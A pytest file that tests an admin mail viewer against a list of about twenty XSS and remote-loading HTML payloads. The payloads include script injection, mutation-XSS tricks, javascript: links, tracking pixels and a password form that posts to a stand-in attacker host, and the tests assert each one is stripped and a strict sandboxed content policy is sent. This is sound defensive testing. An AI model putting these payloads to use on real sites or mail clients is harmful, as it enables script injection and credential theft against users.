"""Cases 28 and 29, in mails: no script, no style, nothing remote; and the browser is told so."""

from __future__ import annotations

from types import SimpleNamespace
from typing import Any

import pytest

from tests import factories
from tests.abuse.mail_cases import our_server_checks  # noqa: F401  a fixture
from tests.mails import mail, received

NASTY = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<p style='background:url(//evil.example/x.png);position:fixed;inset:0'>x</p>",
    "<img src='https://evil.example/pixel.png'>",
    "<img srcset='https://evil.example/pixel.png 2x'>",
    "<table background='//evil.example/x.png'><tr><td>x</td></tr></table>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
]


@pytest.mark.parametrize("html", NASTY)
def test_nothing_runs_and_nothing_is_loaded(
    cast: SimpleNamespace, browser_of: Any, html: str
) -> None:
    row = received(mail(html=f"<p>Before</p>{html}<p>After</p>"))
    answer = browser_of(cast.engineer).get(f"/admin/mail/{row.pk}/html/")
    shown = answer.content.decode().partition("<body>")[2].lower()
    assert "before" in shown
    for bad in ("<script", "onerror=", "onload", "evil.example", "javascript:", "style=", "<form",
                "<iframe", "<svg", "<style", "<meta", "<object", "data:text"):  # fmt: skip
        assert bad not in shown.replace("&lt;", "")
    policy = answer["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'")
    assert policy.endswith("sandbox")


def test_the_page_around_it_frames_nothing_but_ourselves(
    cast: SimpleNamespace, browser_of: Any
) -> None:
    factories.ticket(cast.developer)
    row = received(mail(html="<p>x</p>"))
    answer = browser_of(cast.engineer).get(f"/admin/mail/{row.pk}/")
    assert "frame-src 'self'" in answer["Content-Security-Policy"]
    assert "<iframe" in answer.content.decode()
    assert " sandbox " in answer.content.decode()
    assert browser_of(cast.developer).get(f"/admin/mail/{row.pk}/").status_code == 403
